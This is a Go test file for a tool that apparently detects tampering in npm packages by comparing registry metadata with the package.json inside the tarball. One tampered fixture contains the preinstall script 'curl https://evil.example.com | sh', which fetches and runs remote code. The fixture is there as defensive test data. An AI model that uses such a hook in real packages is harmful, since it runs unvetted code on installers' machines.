@@ -0,0 +1,220 @@
+package mismatch
+
+import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
+	"strings"
+	"testing"
+
+	"github.com/MakeNowJust/heredoc"
+	"github.com/listendev/pkg/models/metadata"
+	"github.com/listendev/pkg/npm"
+	"github.com/listendev/pkg/verdictcode"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func registryVersion() *npm.PackageVersion {
+	return &npm.PackageVersion{
+		Name:    "@acme/tool",
+		Version: "1.2.3",
+		Bin:     npm.Bin{"tool": "bin/cli.js"},
+		Engines: npm.Engines{"node": ">=18"},
+		Scripts: map[string]string{
+			"test":    "jest",
+			"install": "node-gyp rebuild",
+		},
+		Dependencies: map[string]string{
+			"chalk":    "^5.0.0",
+			"fsevents": "^2.3.0",
+		},
+		DevDependencies: map[string]string{
+			"jest": "^29.0.0",
+		},
+		OptionalDependencies: map[string]string{
+			"fsevents": "^2.3.0",
+		},
+	}
+}
+
+const packageJSON = `{
+	"name": "@acme/tool",
+	"version": "v1.2.3",
+	"bin": "./bin/cli.js",
+	"engines": {"node": ">=18"},
+	"scripts": {"test": "jest"},
+	"dependencies": {"chalk": "^5.0.0"},
+	"optionalDependencies": {"fsevents": "^2.3.0"},
+	"devDependencies": {"jest": "^29.0.0"}
+}`
+
+func tarball(t *testing.T, files map[string]string) *bytes.Buffer {
+	t.Helper()
+	b := new(bytes.Buffer)
+	gz := gzip.NewWriter(b)
+	tw := tar.NewWriter(gz)
+	require.Nil(t, tw.WriteHeader(&tar.Header{Name: "package/", Typeflag: tar.TypeDir, Mode: 0o755}))
+	for name, content := range files {
+		require.Nil(t, tw.WriteHeader(&tar.Header{Name: name, Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(content))}))
+		_, err := tw.Write([]byte(content))
+		require.Nil(t, err)
+	}
+	require.Nil(t, tw.Close())
+	require.Nil(t, gz.Close())
+
+	return b
+}
+
+func TestCompareSame(t *testing.T) {
+	tarballJSON, err := npm.NewPackageJSONFromReader(strings.NewReader(packageJSON))
+	require.Nil(t, err)
+
+	// The differences npm introduces while publishing do not count
+	assert.Empty(t, Compare(registryVersion(), tarballJSON))
+}
+
+func TestCompare(t *testing.T) {
+	tampered := heredoc.Doc(`{
+		"name": "@acme/tools",
+		"version": "1.2.4",
+		"bin": {"tool": "bin/cli.js", "npm": "bin/npm.js"},
+		"engines": ["node >= 0.4"],
+		"scripts": {"test": "jest", "preinstall": "curl https://evil.example.com | sh"},
+		"dependencies": {"chalk": "^4.0.0", "evil": "1.0.0"},
+		"devDependencies": {}
+	}`)
+	got, err := CompareTarball(registryVersion(), tarball(t, map[string]string{
+		"package/package.json":                tampered,
+		"package/node_modules/x/package.json": `{"name": "x"}`,
+	}))
+	require.Nil(t, err)
+
+	want := []Mismatch{
+		{Field: FieldName, Registry: "@acme/tool", Tarball: "@acme/tools"},
+		{Field: FieldVersion, Registry: "1.2.3", Tarball: "1.2.4"},
+		{
+			Field:           FieldScripts,
+			RegistryEntries: map[string]string{"install": "node-gyp rebuild"},
+			TarballEntries:  map[string]string{"preinstall": "curl https://evil.example.com | sh"},
+			Added:           []string{"preinstall"},
+			Removed:         []string{"install"},
+			Changed:         []string{},
+		},
+		{
+			Field:           FieldDependencies,
+			RegistryEntries: map[string]string{"chalk": "^5.0.0", "fsevents": "^2.3.0"},
+			TarballEntries:  map[string]string{"chalk": "^4.0.0", "evil": "1.0.0"},
+			Added:           []string{"evil"},
+			Removed:         []string{"fsevents"},
+			Changed:         []string{"chalk"},
+		},
+		{
+			Field:           FieldDevDependencies,
+			RegistryEntries: map[string]string{"jest": "^29.0.0"},
+			TarballEntries:  map[string]string{},
+			Added:           []string{},
+			Removed:         []string{"jest"},
+			Changed:         []string{},
+		},
+		{
+			Field:           FieldBin,
+			RegistryEntries: map[string]string{},
+			TarballEntries:  map[string]string{"npm": "bin/npm.js"},
+			Added:           []string{"npm"},
+			Removed:         []string{},
+			Changed:         []string{},
+		},
+		{
+			Field:           FieldEngines,
+			RegistryEntries: map[string]string{"node": ">=18"},
+			TarballEntries:  map[string]string{},
+			Added:           []string{},
+			Removed:         []string{"node"},
+			Changed:         []string{},
+		},
+	}
+	assert.Equal(t, want, got)
+
+	codes := map[Field]verdictcode.Code{}
+	for _, m := range got {
+		c, ok := m.Code()
+		if !ok {
+			continue
+		}
+		codes[m.Field] = c
+		encoded, err := metadata.Encode(c, m.Metadata())
+		require.Nil(t, err, m.Field)
+		assert.Contains(t, encoded, "registry")
+		assert.Contains(t, encoded, "tarball")
+	}
+	assert.Equal(t, map[Field]verdictcode.Code{
+		FieldName:            verdictcode.MDN05,
+		FieldScripts:         verdictcode.MDN06,
+		FieldDependencies:    verdictcode.MDN07,
+		FieldDevDependencies: verdictcode.MDN08,
+	}, codes)
+	assert.Equal(t, metadata.Mismatch[string]{Registry: "@acme/tool", Tarball: "@acme/tools"}, got[0].Metadata())
+}
+
+func TestCompareGypInstall(t *testing.T) {
+	// The install script of the registry is not the one npm adds when the package has its own ones
+	got := Compare(registryVersion(), &npm.PackageJSON{
+		Name:                 "@acme/tool",
+		Version:              "1.2.3",
+		Bin:                  npm.Bin{"": "bin/cli.js"},
+		Engines:              npm.Engines{"node": ">=18"},
+		Scripts:              map[string]string{"test": "jest", "preinstall": "node setup.js"},
+		Dependencies:         map[string]string{"chalk": "^5.0.0"},
+		OptionalDependencies: map[string]string{"fsevents": "^2.3.0"},
+		DevDependencies:      map[string]string{"jest": "^29.0.0"},
+	})
+	require.Len(t, got, 1)
+	assert.Equal(t, FieldScripts, got[0].Field)
+	assert.Equal(t, []string{"preinstall"}, got[0].Added)
+	assert.Equal(t, []string{"install"}, got[0].Removed)
+}
+
+func TestCompareVersions(t *testing.T) {
+	cases := []struct {
+		registry, tarball string
+		same              bool
+	}{
+		{"1.0.0", "1.0.0", true},
+		{"1.0.0", "v1.0.0", true},
+		{"1.0.0", "=1.0.0", false},
+		{"1.0.0", "1.0.1", false},
+		{"1.0.0-beta.1", "1.0.0-beta.2", false},
+		{"1.0.0+build.1", "1.0.0+build.2", false},
+		{"1.0.0", "", false},
+		{"", "", true},
+	}
+	for _, tc := range cases {
+		assert.Equal(t, tc.same, sameVersion(tc.registry, tc.tarball), "%q vs %q", tc.registry, tc.tarball)
+	}
+}
+
+func TestPackageJSONFromTarball(t *testing.T) {
+	p, err := PackageJSONFromTarball(tarball(t, map[string]string{
+		"package/README.md":        "# Tool",
+		"package/lib/package.json": `{"name": "nested"}`,
+		"package/package.json":     packageJSON,
+	}))
+	require.Nil(t, err)
+	assert.Equal(t, "@acme/tool", p.Name)
+	assert.Equal(t, npm.Bin{"": "./bin/cli.js"}, p.Bin)
+
+	// Some tarballs have a top directory other than package
+	p, err = PackageJSONFromTarball(tarball(t, map[string]string{"./node/package.json": `{"name": "other"}`}))
+	require.Nil(t, err)
+	assert.Equal(t, "other", p.Name)
+
+	_, err = PackageJSONFromTarball(tarball(t, map[string]string{"package/index.js": ""}))
+	assert.ErrorIs(t, err, ErrNoPackageJSON)
+	_, err = PackageJSONFromTarball(tarball(t, map[string]string{"package.json": packageJSON}))
+	assert.ErrorIs(t, err, ErrNoPackageJSON)
+	_, err = PackageJSONFromTarball(tarball(t, map[string]string{"package/package.json": "{"}))
+	assert.Error(t, err)
+	_, err = PackageJSONFromTarball(strings.NewReader("not gzip"))
+	assert.ErrorContains(t, err, "couldn't read the tarball")
+}